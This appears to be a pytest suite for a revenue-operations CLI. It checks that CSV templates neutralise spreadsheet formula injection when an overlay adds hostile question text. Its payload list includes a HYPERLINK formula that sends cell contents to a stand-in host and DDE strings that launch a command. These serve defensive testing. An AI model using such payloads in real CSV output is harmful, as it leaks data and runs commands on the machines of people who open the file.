"""CSV the project writes opens in a spreadsheet as text: no cell starts a formula, whatever an
overlay's question says and whichever delimiter the spreadsheet splits on, and `revops score`
still reads the filled-in template. Payloads are module-level names, for a fuzz suite."""

from __future__ import annotations

import csv
import io
import json

import pytest

from revops.foundation.csvout import FORMULA_STARTS, csv_comment, csv_text, neutralised

from .conftest import revops

ADDED = "acme-payload"
# Question texts an overlay may add; each tries to start a cell with a formula.
CSV_INJECTION_PAYLOADS = [
    'How are deals handed over, =HYPERLINK("http://x.example/?leak="&A1,"click")',
    'How are deals handed over,=HYPERLINK("http://x.example")',
    "How are deals handed over,+cmd|' /C calc'!A0",
    "How are deals handed over,-2+3+cmd|' /C calc'!A0",
    "How are deals handed over,@SUM(1+1)*cmd|' /C calc'!A0",
    "How are deals handed over;=1+1",
    'How are deals handed over; =HYPERLINK("http://x.example")',
    "How are deals handed over,\t=1+1",
    'How are deals handed over,"=1+1",x',
    'How are deals handed over?",=1+1,"',
    "How are deals handed over\r\n=1+1",
    '=HYPERLINK("http://x.example","Open the guide")',
    "+1+1 is what this question asks",
    "-1+1 is what this question asks",
    "@SUM(A1:A9) is what this question asks",
]
LEVELS = ", ".join(
    f"{level}: Level {level} practice for the added question" for level in range(1, 6)
)


def overlay_adding(tmp_path, text: str):
    """An overlay adding one question with the given text (written as a JSON string, which
    YAML reads as a double-quoted one)."""
    path = tmp_path / "overlay.yaml"
    path.write_text(
        f"organisation: Acme\nprefix: acme\nadd_questions:\n"
        f"  - {{id: {ADDED}, rule: alignment, text: {json.dumps(text)},\n"
        f"     options: {{{LEVELS}}}}}\n",
        encoding="utf-8",
    )
    return path


def cells(text: str, delimiter: str) -> list[list[str]]:
    """The rows a spreadsheet splitting on the delimiter would show."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def formula_cells(text: str) -> list[str]:
    """Cells that a spreadsheet would take as a formula, for comma, semicolon or tab."""
    return [
        cell
        for delimiter in ",;\t"
        for row in cells(text, delimiter)
        for cell in row
        if cell.lstrip(" ").startswith(FORMULA_STARTS)
    ]


@pytest.mark.parametrize("payload", CSV_INJECTION_PAYLOADS)
def test_no_template_cell_starts_a_formula(tmp_path, payload):
    overlay = overlay_adding(tmp_path, payload)
    result = revops("template", "--format", "csv", "--overlay", str(overlay))
    assert result.returncode == 0, result.stderr
    assert formula_cells(result.stdout) == []
    rows = cells(result.stdout, ",")
    shown = {row[0]: row[1] for row in rows if row and row[0].startswith("# ")}
    text = " ".join(payload.split())
    assert shown[f"# {ADDED}:"] in (text, "'" + text) or ";'" in shown[f"# {ADDED}:"]
    header = rows[-2]
    assert header[:4] == ["respondent", "role", "team", "date"] and ADDED in header


def test_the_filled_in_template_scores(tmp_path):
    overlay = overlay_adding(tmp_path, CSV_INJECTION_PAYLOADS[0])
    sheet = revops("template", "--format", "csv", "--overlay", str(overlay)).stdout
    *comments, header, empty = sheet.splitlines()  # as the command's text output reads it
    answers = {ADDED: "4", "alignment-lead-handoff": "3"}
    row = ["Ann", "sales", "", "2026-06-30", *(answers.get(q, "") for q in header.split(",")[4:])]
    path = tmp_path / "team.csv"
    path.write_text("\n".join([*comments, header, ",".join(row)]) + "\n", encoding="utf-8")
    result = revops("score", str(path), "--overlay", str(overlay), "--format", "json")
    assert result.returncode == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["team"] == "Acme" and report["respondents"][0]["name"] == "Ann"
    alignment = next(rule for rule in report["rules"] if rule["id"] == "alignment")
    assert alignment["question_means"][ADDED] == 4.0


def test_the_template_without_an_overlay_is_unchanged_where_it_counts():
    sheet = revops("template", "--format", "csv").stdout
    assert sheet.startswith('# RevOps maturity assessment:,"One row per respondent.')
    assert "\nrespondent,role,team,date," in sheet
    assert formula_cells(sheet) == []


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_neutralised(start):
    assert neutralised(f"{start}1+1") == f"'{start}1+1"
    assert csv_text([[f"{start}1+1", "ok"]]) == f'"\'{start}1+1","ok"\r\n'


def test_csv_text_quotes_only_where_needed():
    assert csv_text([["a", "b c", None, 3]]) == "a,b c,,3\r\n"
    assert csv_text([["a,b", 'say "x"']]) == '"a,b","say ""x"""\r\n'
    assert csv_text([["a;=1+1", "b"]]) == '"a;=1+1","b"\r\n'  # quoted for ; spreadsheets
    assert csv_text([["O'Brien", "R&D"]]) == "O'Brien,R&D\r\n"


def test_csv_comment():
    assert csv_comment("# q-id:", "Is it, or =1+1; =2") == '# q-id:,"Is it, or =1+1;\' =2"\r\n'
    with pytest.raises(ValueError):
        csv_comment("#,x", "text")  # '#' then a delimiter is a cell, not a comment
